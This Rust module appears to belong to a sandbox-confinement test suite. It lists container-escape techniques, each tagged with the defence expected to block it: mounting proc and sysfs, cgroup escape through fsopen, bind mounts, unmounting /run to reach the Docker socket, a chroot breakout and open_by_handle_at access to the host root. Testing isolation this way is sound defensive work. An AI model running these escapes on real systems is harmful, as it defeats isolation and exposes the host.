//! Making visible what is hidden: mounts, covers taken off, roots left.

use std::ffi::CStr;
use std::os::fd::AsRawFd;
use std::path::Path;

use super::cgroups::{mount, private};
use super::namespaces::open_handle;
use super::sys::{Result, c_string, call, descriptor, open};
use super::unix::ask;
use super::{Stop, Technique, technique};

const CAPABILITIES: &str = "capabilities";
const OR: &[(&str, &str)] = &[
    ("mount: ENOSYS", "seccomp: mount"),
    ("unshare: EPERM", CAPABILITIES),
    ("mount: EPERM", CAPABILITIES),
    ("connect: EPERM", "connect_unix"),
];
const DOCKER: &str = "/run/docker.sock";

pub(super) const TABLE: &[Technique] = &[
    technique(
        "mount-proc",
        "mount proc and look for a process outside",
        |a| {
            own_mounts()?;
            let place = a.world.home.join("open");
            mount(c"proc", &place)?;
            let outside = a.outside()?.pid;
            std::fs::metadata(place.join(format!("{outside}/mem"))).map_err(Stop::io("open"))?;
            ask(a, &place.join(format!("{outside}/root{DOCKER}")), "{}")
        },
    )
    .root()
    .closed(CAPABILITIES, "connect_unix")
    .or(OR),
    technique("mount-sysfs", "mount sysfs, writable", |a| {
        own_mounts()?;
        let place = a.world.home.join("open");
        mount(c"sysfs", &place)?;
        open(place.join("kernel/uevent_helper"), libc::O_WRONLY)
            .or_else(|_| open(place.join("power/state"), libc::O_WRONLY))
            .or_else(|_| open(place.join("module/printk/parameters/time"), libc::O_WRONLY))?;
        Ok("writable".to_owned())
    })
    .root()
    .possession()
    .closed(CAPABILITIES, "")
    .or(OR),
    technique("mount-bpffs", "mount a bpf file system", |a| {
        own_mounts()?;
        mount(c"bpf", &a.world.home.join("open"))?;
        Ok("mounted".to_owned())
    })
    .root()
    .possession()
    .closed(CAPABILITIES, "")
    .or(OR),
    technique("mount-tracefs", "mount tracefs, writable", |a| {
        own_mounts()?;
        let place = a.world.home.join("open");
        mount(c"tracefs", &place)?;
        open(place.join("trace_marker"), libc::O_WRONLY)?;
        Ok("writable".to_owned())
    })
    .root()
    .possession()
    .closed(CAPABILITIES, "")
    .or(OR),
    technique("mount-debugfs", "mount debugfs", |a| {
        own_mounts()?;
        mount(c"debugfs", &a.world.home.join("open"))?;
        Ok("mounted".to_owned())
    })
    .root()
    .possession()
    .closed(CAPABILITIES, "")
    .or(OR),
    technique(
        "mount-devtmpfs",
        "mount devtmpfs, with the host's devices",
        |a| {
            own_mounts()?;
            let place = a.world.home.join("open");
            mount(c"devtmpfs", &place)?;
            open(place.join("net/tun"), libc::O_RDWR)?;
            Ok("opened".to_owned())
        },
    )
    .root()
    .possession()
    .closed(CAPABILITIES, "device")
    .or(OR),
    technique(
        "mount-new-api",
        "fsopen, fsmount: a hierarchy of cgroups",
        |a| {
            let context = descriptor("fsopen", unsafe {
                libc::syscall(libc::SYS_fsopen, c"cgroup2".as_ptr(), 1)
            })?;
            call("fsconfig", unsafe {
                libc::syscall(libc::SYS_fsconfig, context.as_raw_fd(), 6, 0, 0, 0)
            })?;
            let mounted = descriptor("fsmount", unsafe {
                libc::syscall(libc::SYS_fsmount, context.as_raw_fd(), 1, 0)
            })?;
            let below = a
                .world
                .outer_cgroup
                .strip_prefix(a.world.hierarchy())
                .unwrap_or(Path::new(""));
            let procs = Path::new("/proc/self/fd")
                .join(mounted.as_raw_fd().to_string())
                .join(below)
                .join("cgroup.procs");
            let procs = open(procs, libc::O_WRONLY)?;
            super::descriptors::write(&procs, b"0")?;
            super::cgroups::escaped(a)
        },
    )
    .root()
    .closed("seccomp: fsopen", "killed: left its cgroup")
    .or(&[
        ("fsopen: EPERM", CAPABILITIES),
        ("sendto: EPERM", "sendmsg4/6"),
    ]),
    technique(
        "mount-tree",
        "open_tree: a copy of the home's mount without its covers",
        |a| {
            let tree = descriptor("open_tree", unsafe {
                libc::syscall(libc::SYS_open_tree, libc::AT_FDCWD, c"/home".as_ptr(), 1)
            })?;
            ask(
                a,
                &Path::new("/proc/self/fd")
                    .join(tree.as_raw_fd().to_string())
                    .join("agent/stream.sock"),
                "{}",
            )
        },
    )
    .root()
    .closed("seccomp: open_tree", "connect_unix")
    .or(&[
        ("open_tree: EPERM", CAPABILITIES),
        ("connect: EPERM", "connect_unix"),
    ]),
    technique(
        "mount-bind",
        "a bind mount of the home without its covers",
        |a| {
            own_mounts()?;
            let place = c_string(&a.world.home.join("open"));
            bind_mount(c"/home", &place, libc::MS_BIND)?;
            ask(a, &a.world.home.join("open/agent/stream.sock"), "{}")
        },
    )
    .root()
    .closed(CAPABILITIES, "connect_unix")
    .or(OR),
    technique("umount-covers", "take the private /run off", |a| {
        // Elsewhere the directory is the host's own.
        if a.world.place == super::world::Place::Run {
            for cover in [c"/run", c"/tmp"] {
                call("umount", unsafe {
                    libc::umount2(cover.as_ptr(), libc::MNT_DETACH)
                })?;
            }
        }
        ask(a, Path::new(DOCKER), "{}")
    })
    .closed(CAPABILITIES, "connect_unix")
    .or(OR),
    technique(
        "umount-own",
        "the same in user and mount namespaces of one's own",
        |a| {
            let user = if nix::unistd::geteuid().is_root() {
                0
            } else {
                libc::CLONE_NEWUSER
            };
            call("unshare", unsafe {
                libc::unshare(user | libc::CLONE_NEWNS)
            })?;
            if a.world.place == super::world::Place::Run {
                call("umount", unsafe {
                    libc::umount2(c"/run".as_ptr(), libc::MNT_DETACH)
                })?;
            }
            ask(a, Path::new(DOCKER), "{}")
        },
    )
    .closed("mounts locked", "connect_unix")
    .or(OR),
    technique(
        "chroot",
        "leave a root directory by a kept directory",
        |a| {
            let kept = open("/", libc::O_PATH | libc::O_DIRECTORY)?;
            let place = c_string(&a.world.home.join("open"));
            call("chroot", unsafe { libc::chroot(place.as_ptr()) })?;
            call("fchdir", unsafe { libc::fchdir(kept.as_raw_fd()) })?;
            for _ in 0..32 {
                unsafe { libc::chdir(c"..".as_ptr()) };
            }
            call("chroot", unsafe { libc::chroot(c".".as_ptr()) })?;
            ask(a, Path::new(DOCKER), "{}")
        },
    )
    .root()
    .closed("mount namespace", "connect_unix")
    .or(OR),
    technique(
        "open-by-handle",
        "the host's root directory by its file handle",
        |a| {
            let (kind, bytes) = a.outside()?.root.clone().ok_or_else(|| {
                Stop::Unavailable("the root's file system gives no handles".to_owned())
            })?;
            let any = open("/", libc::O_RDONLY | libc::O_DIRECTORY)?;
            let root = open_handle(
                any.as_raw_fd(),
                kind,
                &bytes,
                libc::O_RDONLY | libc::O_DIRECTORY,
            )?;
            std::fs::metadata(format!("/proc/self/fd/{}/etc", root.as_raw_fd()))
                .map_err(Stop::io("open"))?;
            Ok("the host's root".to_owned())
        },
    )
    .root()
    .possession()
    .closed(CAPABILITIES, "")
    .or(&[("open_by_handle_at: EPERM", CAPABILITIES)]),
    technique("pivot-root", "pivot_root", |a| {
        own_mounts()?;
        let place = a.world.home.join("open");
        let c = c_string(&place);
        mount(c"tmpfs", &place)?;
        std::fs::create_dir(place.join("old")).map_err(Stop::io("mkdir"))?;
        let old = c_string(&place.join("old"));
        call("pivot_root", unsafe {
            libc::syscall(libc::SYS_pivot_root, c.as_ptr(), old.as_ptr())
        })?;
        ask(a, Path::new("/old/run/docker.sock"), "{}")
    })
    .root()
    .closed(CAPABILITIES, "connect_unix")
    .or(OR),
];

/// A mount namespace of one's own.
fn own_mounts() -> Result<()> {
    call("unshare", unsafe { libc::unshare(libc::CLONE_NEWNS) })?;
    private()
}

fn bind_mount(from: &CStr, to: &CStr, flags: libc::c_ulong) -> Result<()> {
    call("mount", unsafe {
        libc::mount(
            from.as_ptr(),
            to.as_ptr(),
            std::ptr::null(),
            flags,
            std::ptr::null(),
        )
    })
    .map(drop)
}
